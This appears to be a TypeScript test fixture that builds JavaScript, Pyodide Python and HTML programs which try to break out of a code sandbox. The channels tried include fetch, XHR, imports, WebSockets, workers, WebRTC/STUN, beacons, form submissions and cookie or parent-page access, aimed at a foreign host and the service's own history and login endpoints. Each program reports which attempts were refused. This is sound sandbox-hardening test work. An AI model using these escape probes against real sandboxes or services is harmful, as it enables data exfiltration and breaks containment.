import type { ForeignHost } from './foreign-host.ts'

/* Programs that try to leave the sandbox. Each puts out, as JSON, what every attempt came to. */

const ATTEMPT = `
const results = {}
async function attempt(name, act) {
  const late = new Promise((resolve) => setTimeout(() => resolve('nothing'), 1500))
  try {
    results[name] = String(await Promise.race([act(), late]))
  } catch (error) {
    results[name] = 'refused'
  }
}
function opened(target) {
  return new Promise((resolve, reject) => {
    target.onopen = target.onsuccess = target.onmessage = () => resolve('OPEN')
    target.onerror = reject
  })
}
`

/** @param own the origin of the service */
export function escapingJavaScript({ host }: ForeignHost, own: string): string {
  return `${ATTEMPT}
const nativeFetch = WorkerGlobalScope.prototype.fetch ?? Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch
for (const [name, url] of [['foreign', 'http://${host}/'], ['own', '${own}/api/history?escape']]) {
  await attempt(name + ' fetch', async () => (await nativeFetch.call(self, url)).status)
  await attempt(name + ' request', () => {
    const request = new XMLHttpRequest()
    request.open('GET', url, false)
    request.send()
    return request.status
  })
  await attempt(name + ' import', async () => typeof (await import(url)))
  await attempt(name + ' importScripts', () => importScripts(url))
  await attempt(name + ' events', () => opened(new EventSource(url)))
}
await attempt('socket', () => opened(new WebSocket('ws://${host}/')))
await attempt('nested worker', () => {
  const source = "fetch('http://${host}/nested').then(() => postMessage(1))"
  return opened(new Worker(URL.createObjectURL(new Blob([source]))))
})
await attempt('foreign worker', () => opened(new Worker('http://${host}/worker.js')))
await attempt('database', () => opened(indexedDB.open('a')))
await attempt('cache', () => caches.open('a'))
await attempt('files', () => navigator.storage.getDirectory())
await attempt('code of text', () => new Function('return 1')())
for (const name of ['window', 'document', 'parent', 'top', 'localStorage', 'sessionStorage', 'cookieStore', 'RTCPeerConnection']) {
  results[name] = typeof self[name]
}
results.origin = self.origin
console.log(JSON.stringify(results))
`
}

/** @param own the origin of the service */
export function escapingPython({ host }: ForeignHost, own: string): string {
  return `
import json, js, socket, urllib.request
from pyodide.code import run_js
from pyodide.http import pyfetch, open_url

results = {}

async def attempt(name, act):
    try:
        value = act()
        if hasattr(value, '__await__'):
            value = await value
        results[name] = str(value)
    except BaseException:
        results[name] = 'refused'

for name, url in [('foreign', 'http://${host}/'), ('own', '${own}/api/history?escape')]:
    await attempt(name + ' fetch', lambda: pyfetch(url))
    await attempt(name + ' js fetch', lambda: js.fetch(url))
    await attempt(name + ' url', lambda: open_url(url))
    await attempt(name + ' urllib', lambda: urllib.request.urlopen(url, timeout=1))
await attempt('connection', lambda: socket.create_connection('${host}'.split(':'), timeout=1).sendall(b'x'))
await attempt('code of text', lambda: run_js('1'))
await attempt('database', lambda: js.indexedDB.open('a').result)
for name in ['window', 'document', 'localStorage', 'cookieStore']:
    results[name] = 'object' if hasattr(js, name) else 'undefined'
print(json.dumps(results))
`
}

/** @param own the origin of the service */
export function escapingHtml({ host, udpPort }: ForeignHost, own: string): string {
  const call = `const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${udpPort}'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`
  const frame = `<iframe srcdoc="<script>${call}</script>"></iframe>`
  return `<!doctype html>
<link rel="preconnect" href="http://${host}"><link rel="prefetch" href="http://${host}/prefetch">
<link rel="stylesheet" href="http://${host}/css"><link rel="modulepreload" href="http://${host}/module">
<style>@import "http://${host}/import"; body { background: url(http://${host}/background) }</style>
<img src="http://${host}/image"><script src="http://${host}/script"></script>
<video src="http://${host}/video" autoplay></video><object data="http://${host}/object"></object>
<iframe src="http://${host}/frame"></iframe><iframe src="${own}/login?escape"></iframe>
${frame}<iframe src="javascript:${call}"></iframe>
<div><template shadowrootmode="closed">${frame}</template></div>
<form id="here" action="http://${host}/form"></form>
<form id="above" action="http://${host}/above" target="_top"></form>
<a id="link" ping="http://${host}/ping" href="#x">x</a><div id="place"></div>
<output id="results"></output>
<script>${ATTEMPT}
(async () => {
  await attempt('foreign fetch', async () => (await fetch('http://${host}/')).status)
  await attempt('own fetch', async () => (await fetch('${own}/api/history?escape')).status)
  await attempt('socket', () => opened(new WebSocket('ws://${host}/')))
  await attempt('beacon', () => { navigator.sendBeacon('http://${host}/beacon'); return 'nothing' })
  await attempt('call', () => new RTCPeerConnection() && 'OPEN')
  await attempt('cookies', () => document.cookie)
  await attempt('database', () => opened(indexedDB.open('a')))
  await attempt('page', () => parent.document.title)
  await attempt('top', () => { top.location.href = 'http://${host}/top' })
  await attempt('window', () => String(open('http://${host}/window') ?? 'refused'))
  await attempt('worker', () => opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))))
  const host = place.appendChild(document.createElement('div'))
  host.attachShadow({ mode: 'closed' }).innerHTML = \`${frame.replaceAll('</script>', '<\\/script>')}\`
  place.insertAdjacentHTML('beforeend', \`${frame.replaceAll('</script>', '<\\/script>')}\`)
  link.click()
  here.submit()
  above.submit()
  await new Promise((resolve) => setTimeout(resolve, 100))
  await attempt('frames', () => document.querySelectorAll('iframe').length)
  document.querySelector('#results').textContent = JSON.stringify(results)
})()
</script>`
}
